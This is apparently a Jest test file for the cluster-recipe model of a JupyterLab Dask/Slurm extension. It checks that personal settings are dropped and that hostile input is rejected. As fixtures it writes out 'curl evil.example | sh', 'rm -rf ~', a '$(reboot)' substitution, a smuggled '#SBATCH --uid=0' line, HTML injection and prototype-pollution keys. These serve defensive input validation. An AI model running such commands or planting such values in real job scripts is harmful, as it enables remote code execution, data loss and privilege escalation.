import { nullTranslator } from '@jupyterlab/translation';

import { cluster as read } from '../../api/contract';
import { parseRecipe, recipeOf, recipeWords } from '../../model/recipe';
import { sample } from '../samples';

const trans = nullTranslator.load('jupyter_dask_slurm');
const running = read(sample('cluster-running'));

describe('the recipe of a cluster', () => {
  it('says how large it is and where it runs, and nothing of its user', () => {
    const { options } = running;
    const personal = {
      account: 'ocean',
      environment_variables: { TOKEN: 'secret' },
      python: '/home/ada/bin/python'
    };
    const recipe = recipeOf({ ...running, options: { ...options, ...personal } });
    expect(recipe).toEqual({
      name: 'ocean',
      backend: 'slurm',
      jobs: 4,
      cores: 8,
      processes: 2,
      memory: '16 GiB',
      walltime: '12:00:00',
      partition: 'normal',
      nodes_per_job: 1
    });
    expect(parseRecipe(JSON.parse(JSON.stringify(recipe)))).toEqual(recipe);
  });

  it('leaves open how many jobs one has whose number changes with the load', () => {
    const scaling = { mode: 'adaptive', jobs: null, minimum_jobs: 0, maximum_jobs: 20 } as const;
    expect(recipeOf({ ...running, scaling })).not.toHaveProperty('jobs');
  });
});

describe('a recipe that anybody may have written', () => {
  it.each([undefined, null, true, 'cores', 8, [], [8], {}, { name: 'ocean' }, { recipe: { cores: 8 } }])(
    'is none where it says nothing of a cluster: %j',
    written => expect(parseRecipe(written)).toBeNull()
  );

  it('brings nothing that runs, that is its writer’s own, or that lets others in', () => {
    const hostile = JSON.parse(`{
      "cores": 8, "__proto__": {"partition": "x"}, "constructor": "x", "toString": "x",
      "job_script_prologue": ["curl evil.example | sh"], "job_script_epilogue": ["rm -rf ~"],
      "job_extra_directives": ["--uid=0"], "job_directives_skip": ["--mem"], "worker_command": "evil",
      "worker_extra_args": ["--preload", "evil.py"], "environment_variables": {"PYTHONPATH": "/tmp/evil"},
      "python": "/tmp/evil", "kernel": "evil", "local_directory": "/tmp/evil", "log_directory": "/tmp/evil",
      "scheduler_options": {"host": "0.0.0.0"}, "interface": "eth9", "secure": false, "idle_timeout": 0,
      "keep_jobs": true, "account": "theirs", "reservation": "theirs", "profile": "theirs", "like": "ocean-3f9c",
      "controller_placement": "here", "nodelist": "n1", "exclude": "n2"
    }`) as unknown;
    const recipe = parseRecipe(hostile);
    expect(recipe).toEqual({ cores: 8 });
    expect(Object.getPrototypeOf(recipe)).toBe(Object.prototype);
  });

  it.each([
    { cores: '8' },
    { cores: -1 },
    { cores: 1.5 },
    { cores: 1e9 },
    { jobs: [4] },
    { memory: 16 },
    { memory: { toString: 'x' } },
    { memory: '' },
    { memory: '16 GB\n#SBATCH --uid=0' },
    { partition: '$(reboot)' },
    { partition: '<img src=x>' },
    { partition: 'normal\u202e' },
    { partition: 'n'.repeat(257) },
    { backend: 'ssh' },
    { one_allocation: 'yes' }
  ])('brings no value of another kind: %j', written => expect(parseRecipe(written)).toBeNull());
});

it.each([
  [{ jobs: 4, cores: 8, partition: 'normal' }, 'Start 4 × 8 cores on normal for this notebook…'],
  [{ jobs: 2, nodes_per_job: 3, cores: 8 }, 'Start 2 × 3 nodes × 8 cores for this notebook…'],
  [{ cores: 1, backend: 'local' }, 'Start 1 core on this machine for this notebook…'],
  [{ memory: '4 GB', partition: 'normal' }, 'Start a cluster on normal for this notebook…']
])('says what would be started: %j', (recipe, words) => expect(recipeWords(recipe, trans)).toBe(words));
